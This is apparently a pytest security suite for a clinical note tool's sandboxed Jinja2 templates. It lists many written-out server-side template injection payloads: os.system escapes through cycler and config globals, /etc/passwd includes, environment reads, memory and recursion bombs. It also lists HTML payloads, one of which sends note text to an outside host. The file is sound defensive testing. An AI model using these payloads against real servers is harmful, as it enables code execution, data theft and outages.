"""A clinic's own templates: they override and extend built-in ones, and cannot break out.

The injection payloads below are written from public knowledge of how Jinja2 server-side
template injection works: reaching Python internals through dunder attributes (directly,
by subscript, through the ``attr`` filter, through ``str.format`` fields), through the
globals of ``cycler``, ``joiner``, ``lipsum`` and ``namespace``, through ``self``,
``config`` and ``request``, and exhausting the machine with huge strings, numbers,
ranges, loops and recursion.  Each must fail with an error that names the template and
line, and run nothing: the payloads that would write a file are checked for it.
"""

from __future__ import annotations

import subprocess
from pathlib import Path

import pytest

from alliance_notes import create_host
from alliance_notes.errors import RenderError
from alliance_notes.examples import example_notes
from alliance_notes.host import Host
from alliance_notes.note import ProgressNote
from alliance_notes.sandbox import RenderLimits
from alliance_notes.templating import TemplateError, Templates
from cli_support import run_cli


def clinic(tmp_path: Path, templates: dict[str, str]) -> Path:
    root = tmp_path / "clinic"
    for name, source in templates.items():
        path = root / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(source, encoding="utf-8")
    root.mkdir(exist_ok=True)
    return root


def example(kind: str = "soap") -> ProgressNote:
    return create_host(entry_points=[]).load_note(example_notes()[kind])


def host_with(tmp_path: Path, templates: dict[str, str]) -> Host:
    return create_host(template_dirs=[clinic(tmp_path, templates)])


# -- ordinary clinic templates keep working --------------------------------------------------------


def test_a_clinic_template_overrides_the_built_in_one_of_the_same_name(tmp_path: Path) -> None:
    host = host_with(tmp_path, {"markdown/soap.md.j2": "Riverside SOAP for {{ note.session.client }}\n"})
    assert host.render(example("soap"), "markdown") == "Riverside SOAP for C-0412\n"
    built_in = create_host().render(example("dap"), "markdown")
    assert host.render(example("dap"), "markdown") == built_in


def test_default_prefix_extends_the_built_in_template_changing_one_block(tmp_path: Path) -> None:
    host = host_with(
        tmp_path,
        {
            "markdown/soap.md.j2": '{% extends "default:markdown/soap.md.j2" %}\n'
            "{% block title %}\n# Riverside Clinic — {{ document.title }}\n{% endblock %}\n"
        },
    )
    note = example("soap")
    built_in = create_host().render(note, "markdown")
    clinic_output = host.render(note, "markdown")
    assert clinic_output.startswith("# Riverside Clinic — SOAP note with therapeutic alliance\n")
    assert clinic_output.split("\n", 1)[1] == built_in.split("\n", 1)[1]


def test_overriding_shared_macros_changes_every_built_in_kind(tmp_path: Path) -> None:
    macros = (create_host().templates.directories[-1] / "markdown" / "macros.md.j2").read_text(
        encoding="utf-8"
    )
    host = host_with(
        tmp_path, {"markdown/macros.md.j2": macros.replace("## {{ part.title }}", "## ▸ {{ part.title }}")}
    )
    for kind in ("soap", "dap"):
        assert "## ▸ Therapeutic alliance" in host.render(example(kind), "markdown")


ORDINARY = """\
{%- import "clinic/helpers.md.j2" as helpers -%}
{% set ns = namespace(parts=0) %}
Client {{ note.session.client }} on {{ note.session.date }} ({{ note.kind|upper }})
{% if note.alliance.ruptures %}Ruptures: {{ note.alliance.ruptures|length }}{% else %}No ruptures{% endif %}
{% for part in document.by_key.alliance.blocks %}
{% set ns.parts = ns.parts + 1 %}
{{ loop.index }}. {{ helpers.heading(part.title) }}
{%- if part.status %} ({{ part.status|default("", true) }}){% endif %}
{% endfor %}
Parts: {{ ns.parts }}
SRS: {{ "%.1f"|format(note.alliance.measures.srs.total) }}
Markers: {{ note.alliance.ruptures|map(attribute="type")|join(", ") }}
Facts: {% for label, value in document.facts %}{{ label }}={{ value }}{{ "; " if not loop.last }}{% endfor %}
{{ "x" * 3 }} {{ [1, 2] + [3] }} {{ 2 ** 10 }} {{ "a" ~ "b" }} {{ "{}-{}".format(1, 2) }}
"""


def test_conditionals_loops_filters_macros_and_imports_keep_working(tmp_path: Path) -> None:
    host = host_with(
        tmp_path,
        {
            "markdown/soap.md.j2": ORDINARY,
            "clinic/helpers.md.j2": "{% macro heading(title) %}**{{ title }}**{% endmacro %}",
        },
    )
    output = host.render(example("soap"), "markdown")
    assert "Client C-0412 on 2026-03-10 (SOAP)" in output
    assert "Ruptures: 1" in output
    assert "1. **Summary**" in output and "10. **Plan**" in output
    assert "Parts: 10" in output
    assert "SRS: 36.5" in output
    assert "Markers: withdrawal" in output
    assert "Client=C-0412; " in output
    assert "xxx [1, 2, 3] 1024 ab 1-2" in output


def test_a_clinic_base_template_can_be_inherited_by_clinic_templates(tmp_path: Path) -> None:
    host = host_with(
        tmp_path,
        {
            "clinic/base.md.j2": "HEADER\n{% block body %}{% endblock %}\n\nFOOTER {{ note.kind }}\n",
            "markdown/dap.md.j2": '{% extends "clinic/base.md.j2" %}'
            "{% block body %}{{ document.title }}{% endblock %}",
        },
    )
    assert (
        host.render(example("dap"), "markdown") == "HEADER\nDAP note with therapeutic alliance\nFOOTER dap\n"
    )


def test_built_in_formats_render_the_same_inside_the_sandbox(tmp_path: Path) -> None:
    plain, sandboxed = create_host(), host_with(tmp_path, {"unrelated/readme.txt": "not a template"})
    assert sandboxed.templates.sandboxed
    for kind in ("soap", "dap", "birp", "girp"):
        note = example(kind)
        for name in sorted(plain.formats):
            # A FHIR Bundle is stamped with when it is assembled: the same instant for both.
            options = {"timestamp": "2026-03-10T17:05:00Z"} if name.startswith("fhir") else {}
            for placement in ("section", "inline"):
                assert sandboxed.render(note, name, placement, **options) == plain.render(
                    note, name, placement, **options
                ), (kind, name)


def test_clinic_html_templates_are_autoescaped(tmp_path: Path) -> None:
    host = host_with(tmp_path, {"html/note.fragment.html.j2": "<p>{{ note.subjective }}</p>"})
    note = example("soap").model_copy(update={"subjective": '<script>alert("x")</script> & more'})
    output = host.render(note, "html", fragment="yes")
    assert output == "<p>&lt;script&gt;alert(&#34;x&#34;)&lt;/script&gt; &amp; more</p>"


def test_templates_receive_plain_data_only(tmp_path: Path) -> None:
    host = host_with(tmp_path, {"markdown/soap.md.j2": "{{ note.model_dump() }}"})
    with pytest.raises(TemplateError, match=r"line 1: .*model_dump"):
        host.render(example("soap"), "markdown")
    host = host_with(tmp_path / "again", {"markdown/soap.md.j2": "{{ note.alliance.trust.state }}"})
    assert host.render(example("soap"), "markdown") == "strengthening"


# -- untrusted templates cannot break out ------------------------------------------------------------

MARKER = "PWNED_MARKER"

#: name → template body; ``{marker}`` is replaced by a path that must never be created.
PAYLOADS: dict[str, str] = {
    # attribute and subscript access to dunder names
    "dunder attribute": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "dunder subscript": "{{ ''['__class__']['__mro__'] }}",
    "escaped dunder subscript": "{{ ''['\\x5f\\x5fclass\\x5f\\x5f'] }}",
    "tuple bases": "{{ ().__class__.__bases__[0].__subclasses__() }}",
    "getattribute": "{{ ''.__getattribute__('__class__') }}",
    "subclass walk": "{% for c in [].__class__.__base__.__subclasses__() %}"
    "{% if c.__name__ == 'catch_warnings' %}{{ c()._module.__builtins__['__import__']('os')"
    ".system('touch {marker}') }}{% endif %}{% endfor %}",
    # attr and format filter tricks
    "attr filter": "{{ ''|attr('__class__') }}",
    "attr filter chain": "{{ ''|attr('__class__')|attr('__mro__')|last|attr('__subclasses__') }}",
    "attr built from format": "{{ ''|attr(('%c'|format(95)) * 2 ~ 'class' ~ ('%c'|format(95)) * 2) }}",
    "format filter escape": "{{ '%s'|format(''.__class__) }}",
    # str.format field escapes
    "format field attribute": "{{ '{0.__class__.__mro__}'.format('') }}",
    "format field subscript": "{{ '{0[__class__]}'.format('') }}",
    "format_map": "{{ '{x.__class__}'.format_map({'x': ''}) }}",
    "format method globals": "{{ ''.format.__globals__ }}",
    # globals: cycler, joiner, lipsum, namespace, range, dict
    "cycler globals": "{{ cycler.__init__.__globals__.os.system('touch {marker}') }}",
    "joiner globals": "{{ joiner.__init__.__globals__.os.system('touch {marker}') }}",
    "lipsum globals": "{{ lipsum.__globals__['os'].popen('touch {marker}').read() }}",
    "namespace globals": "{{ namespace.__init__.__globals__.os.system('touch {marker}') }}",
    "namespace instance": "{{ namespace().__class__.__init__.__globals__ }}",
    "range self": "{{ range.__self__ }}",
    "dict mro": "{{ dict.mro() }}",
    "dict subclasses": "{{ dict.__subclasses__() }}",
    # self, config, request (Flask-style objects) and the template's own machinery
    "self init globals": "{{ self.__init__.__globals__.__builtins__.open('{marker}', 'w') }}",
    "self context": "{{ self._TemplateReference__context }}",
    "self dict": "{{ self.__dict__ }}",
    "config": "{{ config.__class__.__init__.__globals__['os'].system('touch {marker}') }}",
    "config items": "{{ config.items() }}",
    "request": "{{ request.application.__globals__.__builtins__.__import__('os').system('touch {marker}') }}",
    "url_for": "{{ url_for.__globals__ }}",
    "macro globals": "{% macro m() %}{% endmacro %}{{ m._func.__globals__ }}",
    "loop internals": "{% for x in [1] %}{{ loop._iterable }}{% endfor %}",
    "document section globals": "{{ document.section.__globals__ }}",
    "date class": "{{ note.session.date.__class__.__subclasses__() }}",
    "mutate data": "{{ note.update({'kind': 'x'}) }}",
    "mutate list": "{% set items = [] %}{{ items.append(1) }}",
    # files and other templates
    "include absolute path": "{% include '/etc/passwd' %}",
    "include parent directory": "{% include '../../../../../../etc/passwd' %}",
    "import module name": "{% import 'os' as os %}{{ os.system('touch {marker}') }}",
    # huge output and computation
    "string times huge": "{{ 'x' * 10**9 }}",
    "string times literal": "{{ 'x' * 999999999 }}",
    "power tower": "{{ 10**10**10 }}",
    "integer squaring": "{% set ns = namespace(n=2) %}{% for i in range(64) %}{% set ns.n = ns.n * ns.n %}"
    "{% endfor %}{{ ns.n }}",
    "concat doubling": "{% set ns = namespace(s='x') %}{% for i in range(64) %}{% set ns.s = ns.s ~ ns.s %}"
    "{% endfor %}{{ ns.s|length }}",
    "plus doubling": "{% set ns = namespace(s='x') %}{% for i in range(64) %}{% set ns.s = ns.s + ns.s %}"
    "{% endfor %}{{ ns.s|length }}",
    "ljust": "{{ 'x'.ljust(999999999) }}",
    "center filter": "{{ 'x'|center(999999999) }}",
    "indent filter": "{{ ('x\\n' * 100000)|indent(100000) }}",
    "percent width": "{{ '%999999999d' % 1 }}",
    "format filter width": "{{ '%999999999d'|format(1) }}",
    "str format width": "{{ '{:>999999999}'.format(1) }}",
    "str format nested width": "{{ '{:>{}}'.format('x', 999999999) }}",
    "replace bomb": "{{ ('x' * 100000).replace('', 'y' * 100000) }}",
    "replace filter bomb": "{{ ('x' * 100000)|replace('', 'y' * 100000) }}",
    "join bomb": "{{ (['y' * 400000] * 100)|join }}",
    "expandtabs": "{{ ('\\t' * 100000).expandtabs(100000) }}",
    "big output loop": "{% for i in range(10000) %}{{ 'y' * 1000 }}{% endfor %}",
    "literal text in macro loops": "{% macro m() %}{% for i in range(9999) %}"
    + "z" * 200
    + "{% endfor %}{% endmacro %}"
    "{% for i in range(9999) %}{% set x = m() %}{% endfor %}",
    "tojson of a huge list": "{{ (range(10000)|list * 100)|tojson }}",
    # range and loop bombs
    "range bomb": "{% for i in range(10**9) %}{% endfor %}",
    "range literal bomb": "{{ range(999999999)|list|length }}",
    "nested loops": "{% for i in range(9999) %}{% for j in range(9999) %}{% endfor %}{% endfor %}",
    # recursion bombs
    "macro recursion": "{% macro f() %}{{ f() }}{% endmacro %}{{ f() }}",
    "exponential macros": "{% macro f(n) %}{% if n %}{{ f(n - 1) }}{{ f(n - 1) }}{% endif %}{% endmacro %}"
    "{{ f(60) }}",
    "recursive loop": "{% for x in [1] recursive %}{{ loop([1]) }}{% endfor %}",
    "wide recursive loop": "{% for x in [1] recursive %}{% if loop.depth < 6 %}"
    "{{ loop(range(9999)) }}{% endif %}{% endfor %}",
    # one operation on a value built to be enormous in little memory (issue 12)
    "join of a shared product": "{{ ([[1]*500000]*500000)|join }}",
    "string of a shared product": "{{ ([[1]*500]*500000)|string|length }}",
    "max of a shared product": "{{ ([[1]*500]*500000)|max }}",
    "sort of a shared product": "{{ ([[1]*500]*500000)|sort }}",
    "tojson of a shared product": "{{ ([[1]*500]*500000)|tojson }}",
    "pprint of a shared product": "{{ ([[1]*500]*500000)|pprint }}",
    "sum of lists": "{{ ([[1]*500]*5000)|sum(start=[]) }}",
    "bare shared product": "{{ [[1]*500000]*500000 }}",
    "doubling list literal": "{% set ns = namespace(s=[1]) %}{% for i in range(64) %}"
    "{% set ns.s = [ns.s, ns.s] %}{% endfor %}{{ ns.s|string|length }}",
    "doubling dict literal": "{% set ns = namespace(s={}) %}{% for i in range(64) %}"
    "{% set ns.s = {'a': ns.s, 'b': ns.s} %}{% endfor %}{{ ns.s == ns.s }}",
    "doubling tuple literal": "{% set ns = namespace(s=(1,)) %}{% for i in range(64) %}"
    "{% set ns.s = (ns.s, ns.s) %}{% endfor %}{{ ns.s }}",
    # str.format reaching a function's globals (read the environment on Jinja 3.1.4)
    "format field function globals": '{{ "{0[section].__globals__[os].environ[HOME]}".format(document) }}',
    "format field by_key method": '{{ "{0[by_key].get.__self__}".format(document) }}',
    "format_map function globals": '{{ "{d[section].__globals__}".format_map({"d": document}) }}',
    "include itself": '{% include "markdown/soap.md.j2" %}',
    "extends itself": '{% extends "markdown/soap.md.j2" %}',
    "block recursion": "{% block b %}{{ self.b() }}{% endblock %}",
}


@pytest.mark.parametrize("name", sorted(PAYLOADS))
def test_injection_payload_fails_clearly_and_runs_nothing(tmp_path: Path, name: str) -> None:
    marker = tmp_path / MARKER
    body = PAYLOADS[name].replace("{marker}", str(marker))
    host = host_with(tmp_path, {"markdown/soap.md.j2": "Safe first line\n" + body})
    note = example("soap")
    with pytest.raises(TemplateError) as raised:
        host.render(note, "markdown")
    error = raised.value
    assert error.template == "markdown/soap.md.j2", str(error)
    assert error.line is not None and error.line >= 2, str(error)
    assert str(error).startswith(f"template markdown/soap.md.j2 line {error.line}: ")
    assert not marker.exists()
    assert note.subjective is not None and note.subjective[:40] not in str(error)
    assert "Traceback" not in str(error)


def test_a_syntax_error_names_template_and_line(tmp_path: Path) -> None:
    host = host_with(tmp_path, {"markdown/soap.md.j2": "one\ntwo\n{% if %}\n"})
    with pytest.raises(TemplateError, match=r"^template markdown/soap.md.j2 line 3: syntax error: "):
        host.render(example("soap"), "markdown")


def test_a_missing_variable_names_template_and_line(tmp_path: Path) -> None:
    host = host_with(
        tmp_path, {"markdown/soap.md.j2": "one\n{{ note.session.client }}\n{{ no_such_thing }}\n"}
    )
    with pytest.raises(TemplateError) as raised:
        host.render(example("soap"), "markdown")
    assert str(raised.value) == "template markdown/soap.md.j2 line 3: no_such_thing is undefined"


def test_an_error_in_an_imported_clinic_template_names_that_template(tmp_path: Path) -> None:
    host = host_with(
        tmp_path,
        {
            "markdown/soap.md.j2": '{% import "clinic/m.md.j2" as m %}{{ m.bad() }}',
            "clinic/m.md.j2": "{% macro bad() %}\n{{ ''.__class__ }}\n{% endmacro %}",
        },
    )
    with pytest.raises(TemplateError) as raised:
        host.render(example("soap"), "markdown")
    assert (raised.value.template, raised.value.line) == ("clinic/m.md.j2", 2)


def test_undefined_names_that_could_be_note_text_are_not_repeated(tmp_path: Path) -> None:
    host = host_with(tmp_path, {"markdown/soap.md.j2": "{{ note.session[note.subjective] }}"})
    with pytest.raises(TemplateError) as raised:
        host.render(example("soap"), "markdown")
    assert "smell of diesel" not in str(raised.value)
    assert "(a value)" in str(raised.value)


def _templates(root: Path, limits: RenderLimits) -> Templates:
    return Templates(clinic_directories=[root], limits=limits)


def test_render_time_is_bounded(tmp_path: Path) -> None:
    root = clinic(
        tmp_path,
        {"slow.md.j2": "{% for i in range(9999) %}{% for j in range(9999) %}{% endfor %}{% endfor %}"},
    )
    templates = _templates(root, RenderLimits(max_seconds=0.05, max_steps=10**9))
    with pytest.raises(TemplateError, match=r"line 1: rendering took longer than 0.05 seconds"):
        templates.render(["slow.md.j2"])


def test_output_size_is_bounded(tmp_path: Path) -> None:
    root = clinic(tmp_path, {"big.md.j2": "{% for i in range(200) %}{{ 'y' * 100 }}{% endfor %}"})
    assert len(_templates(root, RenderLimits()).render(["big.md.j2"])) == 20_000
    with pytest.raises(TemplateError, match="output would be longer than 10000 characters"):
        _templates(root, RenderLimits(max_output_chars=10_000)).render(["big.md.j2"])


def test_template_files_are_bounded_and_stay_inside_the_directory(tmp_path: Path) -> None:
    outside = tmp_path / "outside.txt"
    outside.write_text("secret", encoding="utf-8")
    root = clinic(tmp_path, {"big.md.j2": "x" * 300})
    (root / "link.md.j2").symlink_to(outside)
    templates = _templates(root, RenderLimits(max_template_chars=100))
    with pytest.raises(TemplateError, match=r"big\.md\.j2: is longer than 100 characters"):
        templates.render(["big.md.j2"])
    with pytest.raises(
        TemplateError, match=r"link\.md\.j2: is a link to a file outside the template directory"
    ):
        templates.render(["link.md.j2"])


def test_a_missing_clinic_directory_is_reported(tmp_path: Path) -> None:
    with pytest.raises(RenderError, match="does not exist"):
        create_host(template_dirs=[tmp_path / "nowhere"])


# -- the command line ----------------------------------------------------------------------------------


def _cli(*arguments: str) -> subprocess.CompletedProcess[str]:
    return run_cli(*arguments)


def test_render_and_demo_take_a_clinics_templates(tmp_path: Path) -> None:
    root = clinic(
        tmp_path,
        {
            "markdown/soap.md.j2": '{% extends "default:markdown/soap.md.j2" %}'
            "{% block title %}# Riverside\n{% endblock %}"
        },
    )
    result = _cli("render", str(example_notes()["soap"]), "--templates", str(root))
    assert result.returncode == 0, result.stderr
    assert result.stdout.startswith("# Riverside\n")
    result = _cli("demo", "--kind", "soap", "--templates", str(root))
    assert result.returncode == 0, result.stderr
    assert result.stdout.startswith("# Riverside\n")


def test_a_hostile_template_on_the_command_line_exits_2_naming_template_and_line(tmp_path: Path) -> None:
    root = clinic(tmp_path, {"markdown/soap.md.j2": "ok\n{{ cycler.__init__.__globals__.os.system('id') }}"})
    result = _cli("render", str(example_notes()["soap"]), "--templates", str(root))
    assert result.returncode == 2
    assert result.stdout == ""
    assert result.stderr.startswith("alliance-notes: error: template markdown/soap.md.j2 line 2: ")
    assert "uid=" not in result.stderr and "Traceback" not in result.stderr


def test_a_clinic_template_is_given_plain_data_only_nothing_callable() -> None:
    from alliance_notes.document import build_document
    from alliance_notes.templating import plain_data

    def callables(value: object, path: str) -> list[str]:
        if callable(value):
            return [path]
        if isinstance(value, dict):
            return [found for key, item in value.items() for found in callables(item, f"{path}.{key}")]
        if isinstance(value, list):
            return [
                found for index, item in enumerate(value) for found in callables(item, f"{path}[{index}]")
            ]
        return []

    for kind in ("soap", "dap", "birp", "girp"):
        data = plain_data(build_document(example(kind)))
        assert callables(data, "document") == []
        assert data["by_key"]["alliance"] == next(s for s in data["sections"] if s["key"] == "alliance")


@pytest.mark.timeout(60)  # a regression renders for minutes or runs out of memory
def test_the_shared_product_is_refused_before_it_is_shown(tmp_path: Path) -> None:
    host = host_with(tmp_path, {"markdown/soap.md.j2": "{{ ([[1]*500]*500000)|string|length }}"})
    with pytest.raises(TemplateError, match="would be longer than"):
        host.render(example("soap"), "markdown")


# -- a clinic's HTML can run nothing and send nothing ------------------------------------------

#: name → (template body, words the error must name)
UNSAFE_HTML: dict[str, tuple[str, str]] = {
    "script element": ("<script>fetch('x')</script>", "a <script> element"),
    "image sends the note": (
        '<img src="https://example.org/c?{{ note.subjective|urlencode }}">',
        "a src on <img> that is not a link within the page",
    ),
    "event attribute": ('<p onmouseover="alert(1)">hi</p>', "an event attribute (onmouseover) on <p>"),
    "javascript link": ('<a href="javascript:alert(1)">x</a>', "a href on <a> that is not a link"),
    "external link": ('<a href="//example.org/">x</a>', "a href on <a> that is not a link"),
    "style loads": ("<style>body{background:url(https://example.org/x)}</style>", "a <style> element"),
    "style attribute loads": ('<p style="background:url(x)">x</p>', "a style on <p>"),
    "meta refresh": ('<meta http-equiv="refresh" content="0;url=https://example.org/">', "a <meta> refresh"),
    "form": ('<form action="#"><input></form>', "a <form> element"),
    "iframe": ('<iframe srcdoc="x"></iframe>', "a <iframe> element"),
    "attributes built from data": (
        "<p{{ {'onclick': 'x'}|xmlattr }}>x</p>",
        "an event attribute (onclick) on <p>",
    ),
}


@pytest.mark.parametrize("name", sorted(UNSAFE_HTML))
@pytest.mark.parametrize("fragment", ["no", "yes"])
def test_a_clinic_html_template_that_could_run_or_send_is_refused(
    tmp_path: Path, name: str, fragment: str
) -> None:
    body, named = UNSAFE_HTML[name]
    template = "html/note.fragment.html.j2" if fragment == "yes" else "html/note.html.j2"
    host = host_with(tmp_path, {template: "<p>Riverside</p>\n" + body})
    note = example("soap")
    with pytest.raises(TemplateError) as raised:
        host.render(note, "html", fragment=fragment)
    message = str(raised.value)
    assert message.startswith(f"template {template}: the output has ")
    assert named in message
    assert note.subjective is not None and note.subjective[:20] not in message


@pytest.mark.parametrize(
    ("body", "reason"),
    [
        ("<p>{{ note.subjective|safe }}</p>", "No filter named 'safe'"),
        (
            "{% autoescape false %}<p>{{ note.subjective }}</p>{% endautoescape %}",
            "may not turn escaping off",
        ),
    ],
)
def test_a_clinic_template_cannot_mark_note_data_as_markup(tmp_path: Path, body: str, reason: str) -> None:
    host = host_with(tmp_path, {"html/note.fragment.html.j2": body})
    with pytest.raises(TemplateError, match=reason):
        host.render(example("soap"), "html", fragment="yes")


def test_a_clinic_page_without_a_policy_still_gets_the_policy(tmp_path: Path) -> None:
    page = (
        "<!DOCTYPE html>\n<html><head><title>Riverside</title></head>"
        "<body><p>{{ document.title }}</p></body></html>"
    )
    host = host_with(tmp_path, {"html/note.html.j2": page})
    output = host.render(example("soap"), "html")
    head = output[output.index("<head>") : output.index("</head>")]
    assert '<meta http-equiv="Content-Security-Policy" content="default-src \'none\';' in head


def test_the_built_in_html_passes_the_clinic_check(tmp_path: Path) -> None:
    from alliance_notes.markup_check import check_markup

    for kind in ("soap", "dap", "birp", "girp"):
        for fragment in ("no", "yes"):
            check_markup(create_host().render(example(kind), "html", fragment=fragment))
